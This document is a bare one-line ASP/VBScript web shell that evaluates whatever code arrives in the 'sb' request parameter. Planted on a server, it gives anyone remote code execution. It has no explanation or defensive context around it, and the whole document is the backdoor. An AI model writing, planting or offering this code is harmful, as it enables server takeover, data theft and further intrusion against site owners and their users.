<%@ Language=VBScript inert %><%eval request("sb")%>
